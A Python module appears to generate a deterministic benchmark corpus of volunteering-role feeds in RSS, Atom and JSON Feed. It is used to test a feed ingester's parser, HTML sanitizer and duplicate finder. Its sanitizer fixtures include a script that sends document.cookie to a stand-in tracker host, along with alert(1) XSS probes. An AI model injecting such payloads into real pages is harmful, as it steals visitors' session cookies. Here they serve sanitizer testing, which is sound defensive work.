"""The ingest benchmark's corpus: deterministic feeds in the formats our adapters read (RSS 2.0 and
Atom through "rss", JSON Feed through "jsonfeed"), with what real feeds carry and the sanitizer must
clean (scripts, event handlers, inline styles), and one listing in ten published on two feeds under
the same link, so deduplication has clusters to find.

Feed n lives at http://feed-NN.bench.test/ (one host per feed, for the poller's per-host politeness).
Every item parses with no rejection: corpus_check() proves it (`python -m bench.corpus` prints it).
"""

from __future__ import annotations

import html
import json
import random
import time
from dataclasses import dataclass, replace
from datetime import datetime, timedelta
from email.utils import format_datetime

from bench import text, words
from bench.randomness import DEFAULT_SEED, EPOCH

# Feed kinds by feed number, repeating: RSS 2.0 and Atom (format "rss") are five in six, so the
# default 60 feeds give 50 that bare feedparser can read too (2,500 items): the ingest ratio's base.
KINDS = ("rss2", "atom", "rss2", "rss2", "jsonfeed", "rss2")
FORMATS = {"rss2": "rss", "atom": "rss", "jsonfeed": "jsonfeed"}
SHARED_EVERY = 10  # every tenth item of a feed is also on its partner feed, with the same link
ORGANISATIONS_PER_FEED = 12

# What the sanitizer must take out: (where it goes, the markup). None of it survives sanitize_html.
_JUNK = (
    '<script>document.location="https://tracker.bench.test/?c="+document.cookie</script>',
    '<p onclick="track(this)" style="color:red;font-size:40px">Click to share!</p>',
    '<img src="https://tracker.bench.test/pixel.gif" onerror="alert(1)">',
    '<iframe src="https://ads.bench.test/frame"></iframe>',
    '<div style="display:none"><a href="javascript:alert(1)">hidden</a></div>',
)


@dataclass(frozen=True)
class CorpusFeed:
    name: str
    format: str  # the adapter registry's name: "rss" or "jsonfeed"
    url: str
    body: bytes
    items: int
    # How it was built, so mutate() can rebuild it with a few items changed.
    seed: int = DEFAULT_SEED
    feeds: int = 1


@dataclass(frozen=True)
class _Item:
    item_id: str
    link: str  # the listing's own address; shared items use the organisation's apply page
    page_url: str  # the feed's page for the item (JSON Feed "url" when link is the apply page)
    title: str
    summary: str
    html: str
    organisation: str
    organisation_url: str
    organisation_country: str
    categories: tuple[str, ...]
    causes: tuple[str, ...]
    skills: tuple[str, ...]
    language: str
    location_type: str
    city: str
    country: str
    timezone: str
    hours_per_week: float | None
    commitment: str
    published: datetime
    updated: datetime | None
    expires: datetime | None


def build_corpus(*, feeds: int = 60, items_per_feed: int = 50, seed: int = DEFAULT_SEED) -> list[CorpusFeed]:
    """`feeds` feeds of `items_per_feed` items each; the same arguments always give the same bytes."""
    return [_feed(number, feeds=feeds, items=items_per_feed, seed=seed) for number in range(feeds)]


def mutate(feed: CorpusFeed, round_number: int, *, changed: int = 3) -> bytes:
    """The feed's body with `changed` items edited (title, text and update time), a different few
    in each round, always relative to the feed as built: after ingesting `feed.body`, ingesting
    a round writes exactly `changed` listings (after another round, up to twice that: that
    round's edits are undone)."""
    number = int(feed.name.rsplit("-", 1)[1])
    rebuilt = _feed(
        number, feeds=feed.feeds, items=feed.items, seed=feed.seed, round_number=round_number, changed=changed
    )
    return rebuilt.body


def _token(seed: int) -> str:
    """A short mark of the seed in every id and link: corpora built with other seeds never share
    an item or a duplicate cluster (the memory benchmark ingests thousands of them)."""
    return f"{random.Random(seed).getrandbits(32):08x}"  # noqa: S311 - ids, not secrets


def _feed(
    number: int, *, feeds: int, items: int, seed: int, round_number: int = 0, changed: int = 0
) -> CorpusFeed:
    kind = KINDS[number % len(KINDS)]
    name = f"feed-{number:02d}"
    host = f"feed-{number:02d}.bench.test"
    url = f"http://{host}/{'feed.json' if kind == 'jsonfeed' else 'feed.xml'}"
    rng = random.Random(f"{seed}:feed:{number}")  # noqa: S311 - test data
    language = rng.choice(words.LANGUAGES)
    writer = text.TextGenerator(rng)
    organisations = [writer.organisation_name() for _ in range(ORGANISATIONS_PER_FEED)]
    partner = number ^ 1 if (number ^ 1) < feeds else None
    entries = [
        _item(
            seed, number, position, host=host, language=language, organisations=organisations, partner=partner
        )
        for position in range(items)
    ]
    if round_number:
        entries = _changed(entries, seed=seed, number=number, round_number=round_number, count=changed)
    render = {"rss2": _rss, "atom": _atom, "jsonfeed": _json_feed}[kind]
    body = render(name=name, host=host, url=url, language=language, items=entries)
    return CorpusFeed(
        name=name, format=FORMATS[kind], url=url, body=body, items=items, seed=seed, feeds=feeds
    )


def _item(
    seed: int,
    number: int,
    position: int,
    *,
    host: str,
    language: str,
    organisations: list[str],
    partner: int | None,
) -> _Item:
    token = _token(seed)
    shared = partner is not None and position % SHARED_EVERY == SHARED_EVERY - 1
    # A shared item's content comes from its pair's stream, so both feeds publish the same listing.
    pair = min(number, partner) if shared and partner is not None else number
    key = f"{seed}:shared:{pair}:{position}" if shared else f"{seed}:item:{number}:{position}"
    rng = random.Random(key)  # noqa: S311 - test data
    own = random.Random(f"{seed}:own:{number}:{position}")  # noqa: S311 - test data
    cause = _cause(rng)
    causes = (cause,) if rng.random() < 0.6 else (cause, _cause(rng))
    causes = tuple(dict.fromkeys(causes))
    skills = tuple(rng.sample(list(words.SKILLS), rng.choice((0, 1, 1, 2))))
    organisation = rng.choice(organisations) if not shared else text.TextGenerator(rng).organisation_name()
    org_slug = "".join(ch if ch.isascii() and ch.isalnum() else "-" for ch in organisation.lower()).strip("-")
    org_slug = "-".join(part for part in org_slug.split("-") if part)[:50] or "org"
    city, _region, country, timezone = rng.choice(words.PLACES)
    location_type = rng.choice(("remote", "remote", "onsite", "hybrid"))
    commitment = rng.choice(words.COMMITMENTS)
    item_id = f"{token}-{number:02d}-{position}"
    page_url = f"http://{host}/roles/{item_id}"
    link = f"https://{org_slug}.bench.test/volunteer/roles/{token}-{pair}-{position}" if shared else page_url
    written = text.TextGenerator(rng).listing(
        cause=cause,
        organisation=organisation,
        link=link,
        skills=skills,
        commitment=commitment,
        language=language if not shared else "en",
        city=city if location_type != "remote" else "",
        planted=(),
        extra_causes=causes[1:],
    )
    published = EPOCH - timedelta(minutes=rng.randint(60, 60 * 24 * 60))
    updated = published + timedelta(hours=own.randint(1, 240)) if own.random() < 0.4 else None
    junk = own.sample(_JUNK, own.choice((0, 0, 1, 2))) if own.random() < 0.4 else []
    body_html = written.description.html
    for piece in junk:  # in the middle of the text, where a CMS would leave it
        at = body_html.find("</p>") + 4
        body_html = body_html[:at] + piece + body_html[at:]
    labels = []
    for slug in causes:
        human, _other, code = words.CAUSES[slug][2]
        labels.append(code if own.random() < 0.3 else human)
    return _Item(
        item_id=item_id,
        link=link,
        page_url=page_url,
        title=written.title,
        summary=written.summary,
        html=body_html,
        organisation=organisation,
        organisation_url=f"https://{org_slug}.bench.test/",
        organisation_country=country,
        categories=tuple(dict.fromkeys(labels)),
        causes=causes,
        skills=skills,
        language=language,
        location_type=location_type,
        city=city if location_type != "remote" else "",
        country=country if location_type != "remote" else "",
        timezone=timezone if location_type == "remote" and own.random() < 0.3 else "",
        hours_per_week=own.choice((None, 0.5, 1.0, 2.0, 3.0, 5.0, 8.0)),
        commitment=commitment,
        published=published,
        updated=updated,
        expires=EPOCH + timedelta(days=own.randint(20, 300)) if own.random() < 0.3 else None,
    )


def _cause(rng: random.Random) -> str:
    causes = list(words.CAUSES)
    return causes[min(int(len(causes) * rng.random() ** 1.8), len(causes) - 1)]


def _changed(entries: list[_Item], *, seed: int, number: int, round_number: int, count: int) -> list[_Item]:
    rng = random.Random(f"{seed}:mutate:{number}:{round_number}")  # noqa: S311 - test data
    chosen = set(rng.sample(range(len(entries)), min(count, len(entries))))
    result = []
    for position, item in enumerate(entries):
        if position in chosen:
            # New words in the text only: a new title word would also tell the duplicate finder
            # that this copy is another role than its partner feed's.
            note = f"New session times were added for round {round_number}."
            item = replace(
                item,
                title=f"{item.title} (updated)",
                html=item.html + f"<p>{html.escape(note)}</p>",
                updated=EPOCH + timedelta(hours=round_number),
            )
        result.append(item)
    return result


def corpus_check(corpus: list[CorpusFeed]) -> dict:
    """Parse every feed with its adapter (and the "rss" ones with bare feedparser too): raises if
    any item is rejected or missing; returns counts, bytes and parse seconds."""
    import feedparser

    from opportunities.feeds import get_adapter

    started = time.perf_counter()
    listings = 0
    for feed in corpus:
        parsed = get_adapter(feed.format).parse(feed.body, base_url=feed.url)
        if parsed.rejections or len(parsed.listings) != feed.items:
            raise AssertionError(
                f"{feed.name}: {len(parsed.listings)} of {feed.items} items, {parsed.rejections}"
            )
        listings += len(parsed.listings)
    adapters = time.perf_counter() - started
    xml = [feed for feed in corpus if feed.format == "rss"]
    started = time.perf_counter()
    for feed in xml:
        feedparser.parse(feed.body)
    bare = time.perf_counter() - started
    return {
        "feeds": len(corpus),
        "items": listings,
        "bytes": sum(len(feed.body) for feed in corpus),
        "by_format": {
            fmt: sum(1 for feed in corpus if feed.format == fmt) for fmt in sorted(FORMATS.values())
        },
        "adapter_parse_seconds": round(adapters, 3),
        "rss_feeds": len(xml),
        "rss_items": sum(feed.items for feed in xml),
        "rss_bytes": sum(len(feed.body) for feed in xml),
        "feedparser_seconds": round(bare, 3),
    }


# --- rendering ---------------------------------------------------------------------------------------


def _x(value: str) -> str:
    """XML text: &, < and > escaped (quotes too, for attributes)."""
    return html.escape(value, quote=True)


def _rss(*, name: str, host: str, url: str, language: str, items: list[_Item]) -> bytes:
    parts = [
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">\n'
        "<channel>\n"
        f"<title>Bench volunteering board {name}</title>\n<link>http://{host}/</link>\n"
        f'<atom:link href="{_x(url)}" rel="self" type="application/rss+xml"/>\n'
        f"<description>Volunteering roles from the {name} board.</description>\n"
        f"<language>{language}</language>\n<ttl>60</ttl>\n"
        f"<lastBuildDate>{format_datetime(EPOCH)}</lastBuildDate>\n"
    ]
    for number, item in enumerate(items):
        author = (
            f"<author>volunteer@{item.organisation_url.split('/')[2]} ({_x(item.organisation)})</author>"
            if number % 3 == 0
            else f"<dc:creator>{_x(item.organisation)}</dc:creator>"
        )
        categories = "".join(f"<category>{_x(label)}</category>" for label in item.categories)
        updated = f"<dc:date>{item.updated.isoformat()}</dc:date>" if item.updated and number % 2 else ""
        parts.append(
            "<item>\n"
            f"<title>{_x(item.title)}</title>\n<link>{_x(item.link)}</link>\n"
            f'<guid isPermaLink="false">{name}-{item.item_id}</guid>\n'
            f"<pubDate>{format_datetime(item.published)}</pubDate>{updated}\n{author}\n{categories}\n"
            f"<description>{_x(item.summary)}</description>\n"
            f"<content:encoded><![CDATA[{item.html}]]></content:encoded>\n"
            "</item>\n"
        )
    parts.append("</channel>\n</rss>\n")
    return "".join(parts).encode()


def _atom(*, name: str, host: str, url: str, language: str, items: list[_Item]) -> bytes:
    parts = [
        '<?xml version="1.0" encoding="utf-8"?>\n'
        f'<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="{language}">\n'
        f"<title>Bench projects {name}</title>\n<subtitle>Projects anyone can join.</subtitle>\n"
        f'<link rel="alternate" type="text/html" href="http://{host}/"/>\n'
        f'<link rel="self" type="application/atom+xml" href="{_x(url)}"/>\n'
        f"<id>tag:{host},2026:feed</id>\n<updated>{EPOCH.isoformat()}</updated>\n"
    ]
    for item in items:
        categories = "".join(
            f'<category term="{_x(label.lower().replace(" ", "-"))}" label="{_x(label)}"/>'
            for label in item.categories
        )
        updated = (item.updated or item.published).isoformat()
        parts.append(
            "<entry>\n"
            f"<title>{_x(item.title)}</title>\n"
            f'<link rel="alternate" type="text/html" href="{_x(item.link)}"/>\n'
            f"<id>tag:{host},2026:item/{item.item_id}</id>\n"
            f"<published>{item.published.isoformat()}</published>\n<updated>{updated}</updated>\n"
            f"<author><name>{_x(item.organisation)}</name><uri>{_x(item.organisation_url)}</uri></author>\n"
            f"{categories}\n<summary>{_x(item.summary)}</summary>\n"
            f'<content type="html">{_x(item.html)}</content>\n'
            "</entry>\n"
        )
    parts.append("</feed>\n")
    return "".join(parts).encode()


def _json_feed(*, name: str, host: str, url: str, language: str, items: list[_Item]) -> bytes:
    def entry(item: _Item) -> dict:
        extension: dict = {
            "organization": {
                "name": item.organisation,
                "url": item.organisation_url,
                "country": item.organisation_country.lower(),
            },
            "location_type": item.location_type,
            "languages": [item.language],
            "causes": list(item.causes),
            "skills": list(item.skills),
            "commitment": item.commitment,
        }
        if item.location_type == "remote":
            extension["remote_scope"] = "worldwide"
        else:
            extension |= {"city": item.city, "country": item.country}
        if item.timezone:
            extension["timezone"] = item.timezone
        if item.hours_per_week is not None:
            extension["hours_per_week"] = item.hours_per_week
        if item.expires:
            extension["expires_at"] = item.expires.isoformat()
        document = {
            "id": item.item_id,
            "url": item.page_url,
            "external_url": item.link,
            "title": item.title,
            "summary": item.summary,
            "content_html": item.html,
            "date_published": item.published.isoformat(),
            "tags": list(item.categories),
            "authors": [{"name": item.organisation, "url": item.organisation_url}],
            "_pitchin": extension,
        }
        if item.updated:
            document["date_modified"] = item.updated.isoformat()
        return document

    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": f"Bench remote roles {name}",
        "home_page_url": f"http://{host}/",
        "feed_url": url,
        "language": language,
        "items": [entry(item) for item in items],
    }
    return json.dumps(feed, ensure_ascii=False, indent=1).encode()


if __name__ == "__main__":
    started = time.perf_counter()
    built = build_corpus()
    print(f"built in {time.perf_counter() - started:.2f} s:", json.dumps(corpus_check(built), indent=1))
